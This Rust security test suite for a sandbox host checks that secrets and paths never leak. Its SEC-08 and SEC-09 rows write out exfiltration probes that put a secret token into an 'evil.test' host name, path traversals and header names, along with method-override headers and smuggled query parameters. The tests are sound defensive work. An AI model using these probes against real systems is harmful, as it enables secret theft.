//! What nobody may learn: the host's environment, its paths, the values of settings, its keys.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use belljar_upstream::{Upstream, answer, echo};

use crate::egress::{fetch, grant, said};
use crate::expect::{text, that};
use crate::row::{Row, Stops, Way, imp};
use crate::tools::{line, path, read_text, run, shown, within};

/// A value that only its guest may see.
const VALUE: &str = "sec-05-value-1b7e";

pub(crate) fn rows() -> Vec<Row> {
    vec![
        imp("SEC-01", "a provider reads its environment, its arguments, its directory and standard input")
            .read("env", plain("[]"))
            .read("args", plain("[]"))
            .read("cwd", plain("/"))
            .read("stdin", plain("0 bytes"))
            .stopped(Stops::Structure("nothing of belljar's own environment is passed on")),
        two_hosts(),
        own_header(),
        printed(),
        crossing(),
        echoed_names(),
        partial(),
        overridden(),
        imp("SEC-04", "a provider panics and traps to see what the error tells")
            .shell("export RUST_BACKTRACE=full WASMTIME_BACKTRACE_DETAILS=1")
            .act(|scene| {
                let root = scene.site().path("").display().to_string();
                for reference in ["panic/x", "trap", "recurse/0", "exit/3"] {
                    let said = shown(&scene.read(reference));
                    for told in [root.trim_end_matches('/'), ".rs:", "wasm-function", "0x", "registry/src"] {
                        assert!(!said.contains(told), "{reference} tells {told:?}: {said}");
                    }
                }
                "no path, no frame".to_owned()
            })
            .stopped(Stops::Structure("a trap is told by its kind only")),
        imp("SEC-05", "somebody looks for the value of a setting where belljar tells what it does")
            .config(&format!("env = {{ TOKEN = \"{VALUE}\" }}"))
            .way(Way::Unstarted)
            .act(|scene| {
                for verb in [&["check"][..], &["check", "--json"], &["list"], &["list", "--json"], &["--help"]] {
                    let (_, said) = run(scene, verb);
                    assert!(!said.contains(VALUE), "{verb:?} tells it");
                    assert!(!verb.contains(&"check") || said.contains("TOKEN"), "{verb:?} does not name it: {said}");
                }
                let line = line(scene, "");
                let uri = scene.uri("env");
                assert!(read_text(&line, &uri).contains(VALUE), "its own guest sees it");
                let process = format!("/proc/{}", line.process.id());
                let title = fs::read(format!("{process}/cmdline")).expect("a process");
                assert!(!String::from_utf8_lossy(&title).contains(VALUE));
                assert!(!line.process.stderr().contains(VALUE), "in the log");
                let records = fs::read_to_string(scene.site().path("audit.jsonl")).unwrap_or_default();
                assert!(!records.contains(VALUE), "in the records");
                "named, never shown".to_owned()
            })
            .stopped(Stops::Structure("only names of settings are ever written")),
        imp("SEC-06", "another user of the machine reads belljar's keys and compiled code")
            .act(|scene| {
                // Where compiled code and keys are, as the processes of this suite are told.
                let environment = scene.site().environment();
                let mut seen = 0;
                for name in ["XDG_CACHE_HOME", "XDG_STATE_HOME"] {
                    let own = environment.iter().rev().find(|(key, _)| key == name).expect("a setting of the suite");
                    let own = std::path::Path::new(&own.1).join("belljar");
                    for path in
                        fs::read_dir(&own).expect("a directory").flatten().map(|entry| entry.path()).chain([own])
                    {
                        let mode = fs::metadata(&path).map_or(0, |meta| meta.permissions().mode());
                        assert_eq!(mode & 0o077, 0, "{}", path.display());
                        seen += 1;
                    }
                }
                let limits =
                    fs::read_to_string(format!("/proc/{}/limits", scene.stage.process().id())).expect("a process");
                let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap_or_default();
                assert!(core.split_whitespace().nth(4) == Some("0"), "{core}");
                format!("{seen} files and directories, none of them for others; no core dumps")
            })
            .stopped(Stops::Kernel("files are made with mode 0600, directories with 0700")),
    ]
}

/// The secret that the rows below have the host add.
const TOKEN: &str = "sec-tok3n/with+odd=signs";

/// Declares it, and puts it into the environment of belljar.
fn holding_token(row: Row) -> Row {
    row.settings("[secrets]\ntoken = { env = \"TOKEN\" }").shell("export TOKEN='sec-tok3n/with+odd=signs'")
}

const BEARER: &str = "headers = { authorization = \"Bearer ${secret:token}\" }";

fn two_hosts() -> Row {
    let upstreams: [Arc<Upstream>; 2] = std::array::from_fn(|_| Arc::new(Upstream::plain(echo)));
    let [with, without] = upstreams.each_ref().map(|upstream| format!("http://127.0.0.1:{}", upstream.port()));
    let row = imp("SEC-02", "a provider carries a secret of one upstream to another")
        .config(&format!("http = [{{ origin = \"{with}\", {BEARER} }}, {{ origin = \"{without}\" }}]"));
    holding_token(row)
        .act(move |scene| {
            for origin in [&with, &without, &with.replace("127.0.0.1", "localhost")] {
                let told = said(&scene.read(&fetch(&format!("GET {origin}/|quiet"))));
                assert!(!told.contains(TOKEN), "{told}");
            }
            let [first, second] = upstreams.each_ref().map(|upstream| upstream.asked());
            assert_eq!(
                first.iter().map(|asked| asked.header("authorization")).collect::<Vec<_>>(),
                [Some(&*format!("Bearer {TOKEN}"))]
            );
            assert_eq!(second.iter().map(|asked| asked.header("authorization")).collect::<Vec<_>>(), [None]);
            "sent to the one, not to the other".to_owned()
        })
        .stopped(Stops::Structure("a grant's headers go with requests that this very grant allows"))
}

fn own_header() -> Row {
    let upstream = Arc::new(Upstream::plain(|asked| {
        let token = asked.header("authorization").unwrap_or_default().trim_start_matches("Bearer ");
        let encoded = STANDARD.encode(format!("user:{token}"));
        let percent: String = token.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let body = format!("{token} {encoded} {percent} {{\"t\":\"{}\"}}", token.replace('/', "\\/"));
        answer("200 OK", &format!("x-echo: {token}\r\nauthorization: {token}\r\n"), body)
    }));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    let row = imp(
        "SEC-03",
        "a provider sets the header that carries a secret, or reads it back from an upstream that echoes",
    )
    .config(&grant(&origin, BEARER));
    holding_token(row)
        .act(move |scene| {
            for header in ["authorization: mine", "Authorization: mine", "cookie: mine"] {
                let told = said(&scene.read(&fetch(&format!("GET {origin}/|header {header}"))));
                assert!(told.starts_with("refused: header"), "{header}: {told}");
            }
            let told = said(&scene.read(&fetch(&format!("GET {origin}/|sent"))));
            assert!(told.starts_with("status 200") && told.contains("****"), "{told}");
            let percent: String = TOKEN.bytes().map(|byte| format!("%{byte:02x}")).collect();
            for leaked in [
                TOKEN,
                "sec-tok3n",
                &STANDARD.encode(format!("user:{TOKEN}")),
                &percent,
                "sent authorization",
                "got authorization",
            ] {
                assert!(!told.contains(leaked), "{leaked}: {told}");
            }
            assert_eq!(upstream.asked().len(), 1);
            assert_eq!(upstream.asked()[0].header("authorization"), Some(&*format!("Bearer {TOKEN}")));
            "the upstream saw it, the provider did not".to_owned()
        })
        .stopped_by(&["credential", "redact"])
}

fn printed() -> Row {
    let row = imp("SEC-07", "a provider that was handed a secret answers with it, fails with it and prints it")
        .config("env = { TOKEN = \"${secret:token}\" }");
    holding_token(row)
        .act(|scene| {
            for reference in ["env", "errors/failed/env", "errors/denied/env", "print-env"] {
                let said = shown(&scene.read(reference));
                assert!(!said.contains("sec-tok3n"), "{reference}: {said}");
            }
            let given = scene.read("env");
            assert!(text(&given).is_some_and(|text| text.contains("****")), "{given:?}");
            let process = scene.stage.process();
            assert!(!process.stderr().contains("sec-tok3n"), "in the log");
            let records = fs::read_to_string(scene.site().path("audit.jsonl")).unwrap_or_default();
            assert!(!records.contains("sec-tok3n"), "in the records");
            for verb in [&["check"][..], &["check", "--json"], &["list"]] {
                let mut command = scene.stage.command(verb, "");
                command.env("TOKEN", TOKEN);
                let output = belljar_tests::process::run(command, std::time::Duration::from_secs(40));
                let said = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
                assert!(!said.contains("sec-tok3n"), "{verb:?}: {said}");
                assert!(verb != ["check"] || said.contains("hands the secret \"token\""), "{said}");
            }
            "masked in the answer, the error, the log; check warns".to_owned()
        })
        .stopped_by(&["redact"])
}

/// A secret that can stand in a host name.
const NAME: &str = "SecRet-Tok3n-Abcdefghij";

/// Whether any of this secret is in a text: half of it, in either case.
fn leaks(text: &str) -> bool {
    let (text, secret) = (text.to_lowercase(), NAME.to_lowercase());
    let half = secret.len() / 2;
    (0..=secret.len() - half).any(|at| text.contains(&secret[at..at + half]))
}

fn crossing() -> Row {
    let upstream = Arc::new(Upstream::plain(|_| answer("200 OK", "", "fine")));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    imp(
        "SEC-08",
        "a provider that holds a secret puts it where belljar speaks: names, paths, refusals, errors, the log",
    )
    .config(&grant(&origin, "paths = [\"/a\"]"))
    .config("env = { TOKEN = \"${secret:name}\" }\nfs = { \"/d\" = \"granted-sec-08\" }")
    .settings("[secrets]\nname = { env = \"NAME\" }")
    .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
    .prepare(|site| drop(site.write("granted-sec-08/a.txt", "fine")))
    .act(move |scene| {
        let _alive = &upstream;
        let deep = "x".repeat(150);
        let reads = [
            fetch("GET http://$TOKEN.evil.test/"),
            fetch(&format!("GET {origin}/$TOKEN")),
            fetch(&format!("GET {origin}/{deep}$TOKEN")),
            fetch(&format!("$TOKEN {origin}/a")),
            fetch(&format!("GET {origin}/a|header $TOKEN: x")),
            format!("reach/{}", path("https://$TOKEN.evil.test/")),
            format!("reach/{}", path("https://evil.test:1/%53$TOKEN")),
            format!("need/{}", path("/d/../$TOKEN")),
            format!("need/{}", path(format!("/d/../{deep}{deep}$TOKEN"))),
            format!("raw/{}", path("../$TOKEN")),
            format!("open/{}", path(format!("/d/../{deep}$TOKEN"))),
            "errors/failed/cut".to_owned(),
            "errors/denied/cut".to_owned(),
            "errors/unavailable/cut".to_owned(),
            "errors/invalid/cut".to_owned(),
            "errors/failed/hidden".to_owned(),
            "print-cut".to_owned(),
            "env".to_owned(),
        ];
        for reference in &reads {
            let answer = scene.read(reference);
            let said = answer.as_ref().map_or_else(ToString::to_string, ToString::to_string);
            assert!(!leaks(&said), "{reference}: {said}");
        }
        let told = scene.read("errors/failed/quotes").expect_err("it fails").message;
        assert!(told.contains("; run:") && !told.contains("no\"; run:"), "it left its quotation marks: {told}");
        // A thread of its own writes the log.
        let log = || scene.stage.process().stderr();
        assert!(within(Duration::from_secs(20), || log().contains("****")), "in the log: {}", log());
        assert!(!leaks(&log()), "in the log: {}", log());
        let records = fs::read_to_string(scene.site().path("audit.jsonl")).unwrap_or_default();
        assert!(records.contains(".evil.test") && !leaks(&records), "in the records: {records}");
        format!("masked in {} answers, errors, hints, the log and the records", reads.len())
    })
    .stopped_by(&["redact"])
}

fn echoed_names() -> Row {
    let upstream = Arc::new(Upstream::plain(|asked| {
        let token = asked.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
        let trailer = format!("x-t-{token}: {token}\r\n");
        let head = format!("HTTP/1.1 200 OK\r\nx-{token}-y: {}\r\nconnection: close\r\n", token.to_uppercase());
        format!("{head}trailer: x-t-{token}\r\ntransfer-encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n{trailer}\r\n")
            .into_bytes()
    }));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    imp("SEC-08", "an upstream puts the secret that it got into the names of its headers and trailers")
        .config(&grant(&origin, "headers = { authorization = \"Bearer ${secret:name}\" }"))
        .settings("[secrets]\nname = { env = \"NAME\" }")
        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
        .act(move |scene| {
            let told = said(&scene.read(&fetch(&format!("GET {origin}/"))));
            assert!(told.contains("body") && told.contains("got x-****") && !leaks(&told), "{told}");
            assert_eq!(upstream.asked()[0].header("authorization"), Some(&*format!("Bearer {NAME}")));
            "names are masked".to_owned()
        })
        .stopped_by(&["redact"])
}

fn partial() -> Row {
    // Honours ranges, other codings and other character sets, and echoes what it is sent.
    let upstream = Arc::new(Upstream::plain(|asked| {
        let token = asked.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
        let half = token.len() / 2;
        match asked.path() {
            "/range" if asked.header("range").is_some() => answer("206 Partial Content", "", &token[..half]),
            "/always" => answer("206 Partial Content", "content-range: bytes 0-10/22\r\n", &token[..half]),
            "/delta" => answer("226 IM Used", "im: x\r\n", &token[half..]),
            "/parts" => answer("200 OK", "content-type: multipart/byteranges; boundary=b\r\n", &token[..half]),
            "/coded" => answer("200 OK", "content-encoding: x-rot13\r\n", &token[..half]),
            "/transfer" => format!(
                "HTTP/1.1 200 OK\r\nconnection: close\r\ntransfer-encoding: gzip, chunked\r\n\r\nb\r\n{}\r\n0\r\n\r\n",
                &token[..11]
            )
            .into_bytes(),
            "/charset" => answer("200 OK", "content-type: text/plain; charset=utf-7\r\n", &token[..half]),
            _ => echo(asked),
        }
    }));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    imp("SEC-09", "a provider asks for a part of an echo, or for one in another coding")
        .config(&grant(&origin, "headers = { authorization = \"Bearer ${secret:name}\" }"))
        .settings("[secrets]\nname = { env = \"NAME\" }")
        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
        .act(move |scene| {
            upstream.forget();
            for asked in ["/range", "/always", "/delta", "/parts", "/coded", "/transfer", "/charset"] {
                let order = format!("GET {origin}{asked}|header range: bytes=0-10|header if-range: x|header a-im: x");
                let told = said(&scene.read(&fetch(&order)));
                assert!(!leaks(&told), "{asked}: {told}");
            }
            let asked = upstream.asked();
            for name in ["range", "if-range", "a-im"] {
                assert!(asked.iter().all(|one| one.header(name).is_none()), "{name} is sent");
            }
            "the whole, in the plain, or an error".to_owned()
        })
        .stopped_by(&["whole"])
}

fn overridden() -> Row {
    let upstream = Arc::new(Upstream::plain(echo));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    imp("SEC-09", "a provider has an upstream read another method, path or parameter than was judged")
        .config(&grant(&origin, "methods = [\"POST\"], query = { api_key = \"${secret:name}\" }"))
        .settings("[secrets]\nname = { env = \"NAME\" }")
        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
        .act(move |scene| {
            upstream.forget();
            let names = [
                "x-http-method-override",
                "X-HTTP-Method",
                "x-method-override",
                "x_http_method_override",
                "x-original-url",
                "x-rewrite-url",
                "x-forwarded-host",
                "x-forwarded-for",
                "forwarded",
                "x-real-ip",
                "te",
                "expect",
                "trailer",
                "upgrade",
                "connection",
                "via",
            ];
            for name in names {
                let told = said(&scene.read(&fetch(&format!("POST {origin}/|header {name}: x"))));
                assert!(told.starts_with("refused: header"), "{name}: {told}");
            }
            for query in [
                "_method=DELETE",
                "%5Fmethod=DELETE",
                "x-http-method-override=PUT",
                "API_KEY=1",
                "api.key=1",
                "api_key%5B%5D=1",
                "api%255Fkey=1",
            ] {
                let told = said(&scene.read(&fetch(&format!("POST {origin}/?{query}"))));
                assert!(told.starts_with("refused: "), "{query}: {told}");
            }
            assert_eq!(upstream.connections(), 0);
            let told = said(&scene.read(&fetch(&format!("POST {origin}/?q=1|header x-fine: y"))));
            assert!(told.starts_with("status 200") && !leaks(&told), "{told}");
            format!("{} headers and 7 queries refused", names.len())
        })
        .stopped_by(&["override"])
}

/// Exactly this text.
fn plain(wanted: &'static str) -> crate::expect::Expect {
    that(move |answer| match crate::expect::text(answer) {
        Some(text) if text == wanted => Ok(format!("\"{wanted}\"")),
        _ => Err(shown(answer)),
    })
}
